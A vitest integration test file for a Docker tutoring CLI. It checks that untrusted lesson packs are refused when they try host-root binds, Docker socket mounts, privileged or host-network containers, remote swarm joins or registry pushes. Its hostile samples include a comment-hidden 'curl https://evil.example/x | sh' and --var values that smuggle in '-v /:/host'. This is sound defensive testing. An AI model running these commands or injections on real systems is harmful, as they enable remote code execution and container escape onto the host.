import { mkdtempSync, readdirSync, readFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { engineJson, engineRequest, pullImage, requireDaemon, uniqueName } from "../helpers/engine-api.js";
import { CLI, type CliResult, runCli } from "../helpers/run-cli.js";
import { openTerminal } from "../helpers/tmux.js";

/**
 * Issue 17, routes 1, 4 and 8: lesson packs from strangers, run through the built CLI against the
 * real daemon. A pack is untrusted unless the learner passes --trust-pack: its run: commands are
 * held to the pack policy as it loads (validate, solve, test) and again as each runs; solutions see
 * none of the learner's environment; --var and capture: values are one argument each.
 */
const HOSTILE = fileURLToPath(new URL("../fixtures/hostile-packs/", import.meta.url));
const data = { DOCKER_TUTOR_DATA_DIR: mkdtempSync(join(tmpdir(), "dtt-hostile-policy-data-")) };
/** The containers this file's runs make, each by a unique name: removed at the end, and nothing else. */
const made: string[] = [];

interface Pack {
  readonly dir: string;
  readonly file: string;
  readonly number: string;
}

function pack(route: string, name: string): Pack {
  const dir = join(HOSTILE, route, name);
  const yaml = readdirSync(dir).find((f) => f.endsWith(".yaml")) as string;
  return { dir, file: join(dir, yaml), number: yaml.split("-")[0] as string };
}

/** `file:line:col` of the first line holding `needle` (and `marker`), at the needle. */
function placeOf(file: string, needle: string, marker = needle): string {
  const lines = readFileSync(file, "utf8").split("\n");
  const index = lines.findIndex((line) => line.includes(needle) && line.includes(marker));
  return `${file}:${index + 1}:${(lines[index] as string).indexOf(needle) + 1}`;
}

// biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
const CONTROL = /[\u001b\u009b\u0007]/;

function expectNoControlSequences(result: CliResult): void {
  expect(CONTROL.test(result.stdout), result.stdout).toBe(false);
  expect(CONTROL.test(result.stderr), result.stderr).toBe(false);
}

const workdir = () => mkdtempSync(join(tmpdir(), "dtt-hostile-work-"));

interface ContainerInspect {
  readonly Config: { readonly Env: readonly string[]; readonly Cmd: readonly string[] };
  readonly HostConfig: { readonly Binds: readonly string[] | null; readonly NetworkMode: string; readonly Privileged: boolean };
  readonly Mounts: readonly unknown[];
}

const inspect = (name: string) => engineJson<ContainerInspect>(`/containers/${name}/json`);

beforeAll(async () => {
  await requireDaemon();
  await pullImage("alpine:latest");
});

afterAll(async () => {
  for (const name of made) await engineRequest("DELETE", `/containers/${name}?force=true`);
});

describe("route 1: an untrusted pack's run: commands are refused as the pack loads, naming the rule", () => {
  it.each<[string, string, string]>([
    ["bind-root", "mount a host path from outside the lesson's workspace", "/:/host"],
    ["docker-socket", "mount the Docker socket", "type=bind,source=/var/run/docker.sock"],
    ["host-network", "share the host's namespaces", "--network host"],
    ["privileged", "ask for host privileges", "--privileged"],
    ["volume-bind-options", "create a volume whose driver or options reach host paths", "--opt type=none"],
    ["swarm-join-remote", "join a swarm other than the one on the lesson's playground nodes", "203.0.113.5:2377"],
    ["push-remote", "push to a registry other than one on the daemon's loopback (localhost:PORT)", "registry.example:5000/loot"],
    ["build-outside", "build from a context or Dockerfile outside the lesson's workspace", "/"],
    ["comment-hides", "hide text behind a # comment in a run: command", "# && curl https://evil.example/x | sh"],
  ])("%s", async (name, rule, offending) => {
    const { dir, file, number } = pack("host-access", name);
    const needle = name === "build-outside" ? '/"' : offending;
    const sentence = `${placeOf(file, needle, name === "push-remote" ? "image push" : needle)}: step "a" runs a command an untrusted lesson pack may not: it would ${rule} (\`${offending}\`) — change the command; if you trust the pack, run docker-tutor with --trust-pack`;

    const validated = await runCli(["validate", dir], { env: data });
    expect(validated.code).toBe(2);
    expect(validated.stdout).toContain(`${sentence}\n`);
    for (const args of [["solve", number, "--workdir", workdir()], ["test"]]) {
      const result = await runCli(["--lessons-dir", dir, ...args], { env: data });
      expect(result.code, `${args[0]}: ${result.stdout}${result.stderr}`).toBe(2);
      expect(result.stderr).toContain(sentence);
      // Nothing ran: no command was announced.
      expect(result.stdout).not.toContain("$ docker");
      expectNoControlSequences(result);
    }
    // The policy is the only reason: trusted, the same pack validates.
    expect((await runCli(["--trust-pack", "validate", dir], { env: data })).code).toBe(0);
  });

  it("nothing the refused packs name was made: no volume of the host's root, no image built from /, no swarm joined", async () => {
    expect((await engineRequest("GET", "/volumes/hostile-root")).status).toBe(404);
    expect((await engineRequest("GET", "/images/hostile-root/json")).status).toBe(404);
    expect((await engineRequest("GET", "/images/registry.example:5000/loot/json")).status).toBe(404);
    const info = await engineJson<{ Swarm: { RemoteManagers: { Addr: string }[] | null } }>("/info");
    expect(JSON.stringify(info.Swarm.RemoteManagers ?? [])).not.toContain("203.0.113.5");
  });

  it("a bind source known only when the command runs (a captured value) is refused then, in solve and test, and nothing is mounted", async () => {
    const { dir, number } = pack("host-access", "capture-bind");
    const box = uniqueName("capture-bind");
    made.push(box);
    const sentence =
      "# An untrusted lesson pack may not mount a host path from outside the lesson's workspace (`/:/host`); run docker-tutor with --trust-pack only if you trust the pack.";

    const solved = await runCli(["--lessons-dir", dir, "--var", `box=${box}`, "solve", number, "--workdir", workdir()], { env: data });
    expect(solved.code, solved.stdout + solved.stderr).toBe(1);
    expect(solved.stdout).toContain(`${sentence}\n`);
    expect(solved.stdout).toContain("Not run: `docker container run --name");
    expect(solved.stdout).not.toContain("$ docker container run --name");
    expectNoControlSequences(solved);
    expect((await engineRequest("GET", `/containers/${box}/json`)).status).toBe(404);

    const tested = await runCli(["--lessons-dir", dir, "test"], { env: data });
    expect(tested.code, tested.stdout + tested.stderr).toBe(1);
    // The report may wrap and render `code`: the rule's words are what must be there.
    expect(tested.stdout.replace(/\s+/g, " ")).toContain("may not mount a host path from outside the lesson's workspace");
    expectNoControlSequences(tested);
  });
});

describe("route 1 in the interactive lesson: the `r` key holds an untrusted pack to the policy too", () => {
  it("run it for me says the rule in one sentence and runs nothing that breaks it", async () => {
    const { dir, number } = pack("host-access", "capture-bind");
    const box = uniqueName("capture-bind-r");
    made.push(box);
    const dataDir = mkdtempSync(join(tmpdir(), "dtt-hostile-r-"));
    const command = `env NO_COLOR=1 DOCKER_TUTOR_DATA_DIR=${dataDir} DOCKER_CONFIG=${dataDir} ${process.execPath} ${CLI} --lessons-dir ${dir} --var box=${box} lesson ${number} --workdir ${workdir()}; echo EXIT=$?; sleep 30`;
    const terminal = openTerminal(uniqueName("hostile-r"), command, { columns: 100, rows: 50 });
    const flat = () => terminal.screen().replace(/\s*\n\s*/g, " ");
    try {
      await terminal.waitForScreen(/step 1 of 1/);
      terminal.send("r", "Enter");
      const deadline = Date.now() + 30_000;
      while (!/may not mount a host path from outside the lesson's workspace/.test(flat()) && Date.now() < deadline) {
        await new Promise((r) => setTimeout(r, 100));
      }
      expect(flat()).toContain(
        "An untrusted lesson pack may not mount a host path from outside the lesson's workspace (`/:/host`); run docker-tutor with --trust-pack only if you trust the pack.",
      );
      expect((await engineRequest("GET", `/containers/${box}/json`)).status).toBe(404);
      terminal.send("q", "Enter");
      await terminal.waitForScreen(/EXIT=\d+/);
    } finally {
      terminal.kill();
    }
  }, 60_000);
});

describe("route 4: a solution sees none of the learner's environment, in solve as in test", () => {
  it("-e NAME, $NAME and ~ expand to nothing of the learner's: no secret reaches the container", async () => {
    const { dir, number } = pack("learner-environment", "env-secrets");
    const box = uniqueName("env-secrets");
    made.push(box);
    const secrets = { GITHUB_TOKEN: "ghp_hostile_test_secret", AWS_SECRET_ACCESS_KEY: "aws-hostile-test-secret" };
    const solved = await runCli(["--lessons-dir", dir, "--var", `box=${box}`, "solve", number, "--workdir", workdir()], {
      env: { ...data, ...secrets },
    });
    expect(solved.code, solved.stdout + solved.stderr).toBe(0);
    expectNoControlSequences(solved);
    const container = await inspect(box);
    const seen = JSON.stringify(container);
    expect(seen).not.toContain(secrets.GITHUB_TOKEN);
    expect(seen).not.toContain(secrets.AWS_SECRET_ACCESS_KEY);
    expect(seen).not.toContain(process.env.HOME as string);
    expect(container.Config.Env.filter((e) => e.startsWith("GITHUB_TOKEN="))).toEqual([]);
    expect(container.Config.Env).toEqual(expect.arrayContaining(["SEEN_AWS=", "SEEN_HOME="]));
    expect(container.Config.Cmd).toEqual(["echo", "~"]);
  });
});

describe("route 8: --var and capture: values are one argument each, and --var values fit their kind", () => {
  const { dir, file, number } = pack("retokenized-values", "var-adds-flags");

  it("a port given with blanks is refused at the variable, in one sentence naming what a port is; nothing is made", async () => {
    const box = uniqueName("var-port");
    const result = await runCli(
      ["--lessons-dir", dir, "--var", `box=${box}`, "--var", "port=8080 -v /:/host", "solve", number, "--workdir", workdir()],
      { env: data },
    );
    expect(result.code).toBe(2);
    expect(result.stderr).toContain(
      `${placeOf(file, "port:")}: --var port="8080 -v /:/host" does not fit the port it sets: a port is a number from 1 to 65535 — give port a value that fits`,
    );
    expect(result.stdout).not.toContain("$ docker");
    expectNoControlSequences(result);
    expect((await engineRequest("GET", `/containers/${box}/json`)).status).toBe(404);
  });

  it("a text given with blanks and flags stays one argument: no bind is added", async () => {
    const box = uniqueName("var-text");
    made.push(box);
    const solved = await runCli(
      ["--lessons-dir", dir, "--var", `box=${box}`, "--var", "msg=x -v /:/host", "solve", number, "--workdir", workdir()],
      { env: data },
    );
    expect(solved.code, solved.stdout + solved.stderr).toBe(0);
    expectNoControlSequences(solved);
    const container = await inspect(box);
    expect(container.Config.Env).toContain("SEEN=x -v /:/host");
    expect(container.HostConfig.Binds ?? []).toEqual([]);
    expect(container.Mounts).toEqual([]);
  });

  it("a captured value with blanks and flags stays one argument: no bind is added", async () => {
    const captured = pack("retokenized-values", "capture-adds-flags");
    const box = uniqueName("capture-text");
    made.push(box);
    const solved = await runCli(["--lessons-dir", captured.dir, "--var", `box=${box}`, "solve", captured.number, "--workdir", workdir()], {
      env: data,
    });
    expect(solved.code, solved.stdout + solved.stderr).toBe(0);
    expectNoControlSequences(solved);
    const container = await inspect(box);
    expect(container.Config.Env).toContain("SEEN=x -v /:/host");
    expect(container.HostConfig.Binds ?? []).toEqual([]);
    expect(container.Mounts).toEqual([]);
  });
});
